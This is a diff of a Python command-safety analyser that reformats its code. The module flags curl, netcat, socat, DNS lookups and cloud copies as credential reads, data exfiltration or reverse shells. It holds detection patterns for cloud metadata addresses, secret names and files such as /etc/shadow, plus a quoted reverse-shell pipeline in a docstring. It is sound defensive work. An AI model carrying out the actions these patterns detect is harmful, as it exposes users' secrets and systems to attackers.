@@ -11,10 +11,16 @@ from caro.safety.streams import EMPTY, Stream
 from caro.safety.unwrap import SHELLS
 from caro.safety.values import HOME, OPEN, Arg, arg, shown
 
-_METADATA = re.compile(r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|169\.254\.170\.2|\[?fd00:ec2::254")
-_LOCAL = re.compile(r"^(https?://)?(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal)([:/]|$)")
+_METADATA = re.compile(
+    r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|169\.254\.170\.2|\[?fd00:ec2::254"
+)
+_LOCAL = re.compile(
+    r"^(https?://)?(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?|0\.0\.0\.0|host\.docker\.internal)([:/]|$)"
+)
 _SECRET_NAME = re.compile(r"TOKEN|SECRET|PASSW|API_?KEY|CREDENTIAL|PRIVATE_KEY|ACCESS_KEY", re.IGNORECASE)
-_CYRILLIC_OR_GREEK = re.compile(r"[\u0370-\u03ff\u0400-\u052f\u0530-\u058f\u1d00-\u1d7f\u2100-\u214f\uff21-\uff5a]")
+_CYRILLIC_OR_GREEK = re.compile(
+    r"[\u0370-\u03ff\u0400-\u052f\u0530-\u058f\u1d00-\u1d7f\u2100-\u214f\uff21-\uff5a]"
+)
 _INVISIBLE = re.compile(r"[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad]")
 
 
@@ -31,7 +37,12 @@ def _is_secret_file(call: Call, path: str) -> bool:
 
 
 def _sensitive(path: str) -> bool:
-    return bool(re.search(r"^/etc/(passwd|hosts|group)$|\.(bash|zsh)_history$|/var/log/(auth|secure)|/etc/shadow", path.replace(HOME, "~")))
+    return bool(
+        re.search(
+            r"^/etc/(passwd|hosts|group)$|\.(bash|zsh)_history$|/var/log/(auth|secure)|/etc/shadow",
+            path.replace(HOME, "~"),
+        )
+    )
 
 
 @decider("fetch")
@@ -46,7 +57,9 @@ def fetch(call: Call) -> Stream | None:
             call.emit(Effect("read_credential", call.name, scope="metadata"), [url])
             return Stream(None, frozenset({"secret"}), (), shown(url))
     _sends(call, urls)
-    if call.arguments.has("-k", "--insecure", "--no-check-certificate") and not call.arguments.has("-I", "--head"):
+    if call.arguments.has("-k", "--insecure", "--no-check-certificate") and not call.arguments.has(
+        "-I", "--head"
+    ):
         call.effect("lower_defence", urls[0] if urls else "", "", "moderate")
     local = bool(urls) and all(url.startswith("file://") for url in urls)
     source = shown(urls[0]) if urls else "the network"
@@ -62,7 +75,11 @@ def _saved(call: Call, urls: list[Arg], stream: Stream) -> Stream:
         if target == "-" or (target is None and arguments.options.get("-O") == "-"):
             return stream
         folder = arguments.value("-P", "--directory-prefix", "-d" if call.name == "aria2c" else "-P")
-        for path in [target] if target else [arg((folder.rstrip("/") + "/" if folder else "") + _last(url)) for url in urls]:
+        for path in (
+            [target]
+            if target
+            else [arg((folder.rstrip("/") + "/" if folder else "") + _last(url)) for url in urls]
+        ):
             call.write(path, stream)
         return EMPTY
     target = arguments.value("-o", "--output")
@@ -84,8 +101,29 @@ def _last(url: str) -> str:
     return re.split(r"[?#]", url)[0].rstrip("/").rsplit("/", 1)[-1] or "index.html"
 
 
-_UPLOADS = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form", "-T", "--upload-file",
-            "--post-file", "--post-data", "--body-file", "--body-data", "--json", "-H", "--header", "-u", "--user", "-b", "--cookie")  # fmt: skip
+_UPLOADS = (
+    "-d",
+    "--data",
+    "--data-binary",
+    "--data-raw",
+    "--data-urlencode",
+    "--data-ascii",
+    "-F",
+    "--form",
+    "-T",
+    "--upload-file",
+    "--post-file",
+    "--post-data",
+    "--body-file",
+    "--body-data",
+    "--json",
+    "-H",
+    "--header",
+    "-u",
+    "--user",
+    "-b",
+    "--cookie",
+)
 
 
 def _sends(call: Call, urls: list[Arg]) -> None:
@@ -105,7 +143,11 @@ def _sends(call: Call, urls: list[Arg]) -> None:
     for url in urls:
         if url.stream is not None and url.stream.tags & {"secret", "environment"}:
             call.effect("send_data", url.stream.source, "", "secret")
-        elif "\ue001" in url and any(_SECRET_NAME.search(name) for name in re.findall(f"{OPEN}(\\w+)", url)) and not local:
+        elif (
+            "\ue001" in url
+            and any(_SECRET_NAME.search(name) for name in re.findall(f"{OPEN}(\\w+)", url))
+            and not local
+        ):
             call.effect("send_data", url, "", "token_in_url")
     if call.name in ("http", "https", "xh") and call.stdin.tags & {"secret", "environment"}:
         _sends_stdin(call, local)
@@ -137,17 +179,30 @@ def netcat(call: Call) -> Stream | None:
     if "shell_output" in call.stdin.tags:
         call.effect("open_reverse_shell", " ".join(arguments.positional))
     listens = arguments.has("-l", "--listen")
-    return Stream(None, frozenset({"socket", "download"}) if arguments.positional or listens else frozenset(), (), "the network")
+    return Stream(
+        None,
+        frozenset({"socket", "download"}) if arguments.positional or listens else frozenset(),
+        (),
+        "the network",
+    )
 
 
 @decider("socat")
 def socat(call: Call) -> Stream | None:
     words = [word.lower() for word in call.argv[1:] if not word.startswith("-")]
     runs = [word for word in words if re.match(r"(exec|system|shell)[:]", word)]
-    net = [word for word in words if re.match(r"(tcp|udp|openssl|ssl|sctp|socks|vsock|unix-listen|tcp-listen|tcp4|tcp6|proxy)", word)]
+    net = [
+        word
+        for word in words
+        if re.match(r"(tcp|udp|openssl|ssl|sctp|socks|vsock|unix-listen|tcp-listen|tcp4|tcp6|proxy)", word)
+    ]
     if runs and net:
         call.effect("open_reverse_shell", runs[0])
-    elif net and any(_is_secret_file(call, word.partition(":")[2].split(",")[0]) for word in words if word.startswith(("file:", "open:", "gopen:"))):
+    elif net and any(
+        _is_secret_file(call, word.partition(":")[2].split(",")[0])
+        for word in words
+        if word.startswith(("file:", "open:", "gopen:"))
+    ):
         call.effect("send_data", "a secret", "", "secret")
     elif net and call.stdin.tags & {"secret", "environment"}:
         call.effect("send_data", call.stdin.source, "", "secret")
@@ -186,9 +241,18 @@ def lookup(call: Call) -> Stream | None:
     for word in call.argv[1:]:
         if word.stream is not None and word.stream.tags & {"secret", "environment"}:
             call.effect("send_data", word.stream.source, "", "secret", "dns")
-        elif word.stream is not None and call.name in ("dig", "host", "nslookup", "drill") and OPEN in word and "." in word:
+        elif (
+            word.stream is not None
+            and call.name in ("dig", "host", "nslookup", "drill")
+            and OPEN in word
+            and "." in word
+        ):
             call.effect("send_data", word, "", "dns")
-        elif OPEN in word and "." in word and any(_SECRET_NAME.search(name) for name in re.findall(f"{OPEN}(\\w+)", word)):
+        elif (
+            OPEN in word
+            and "." in word
+            and any(_SECRET_NAME.search(name) for name in re.findall(f"{OPEN}(\\w+)", word))
+        ):
             call.effect("send_data", word, "", "secret", "dns")
     if call.stdin.tags & {"secret", "environment"}:
         call.effect("send_data", call.stdin.source, "", "secret")
@@ -212,7 +276,9 @@ def upload(call: Call) -> Stream | None:
 def copy_object(call: Call) -> Stream | None:
     """`aws s3 cp`, `gsutil cp`: a secret goes to a bucket."""
     words = call.arguments.positional
-    if any(word in ("cp", "mv", "sync", "copy", "put") for word in words[:3]) and words[-1].startswith(("s3://", "gs://", "az://", "https://")):
+    if any(word in ("cp", "mv", "sync", "copy", "put") for word in words[:3]) and words[-1].startswith(
+        ("s3://", "gs://", "az://", "https://")
+    ):
         for word in words:
             if not word.startswith(("s3://", "gs://")) and OPEN not in word and _is_secret_file(call, word):
                 call.effect("send_data", word, "", "secret")
@@ -225,7 +291,9 @@ def copy_object(call: Call) -> Stream | None:
 def mkfifo(call: Call) -> Stream | None:
     """A pipe by name: who reads it gets what the network writes, as in `cat f | sh | nc host > f`."""
     for path in call.arguments.positional:
-        call.state.files[targets.resolve(path, call.state.cwd)] = Stream(None, frozenset({"fifo"}), (), shown(path))
+        call.state.files[targets.resolve(path, call.state.cwd)] = Stream(
+            None, frozenset({"fifo"}), (), shown(path)
+        )
     return EMPTY
 
 
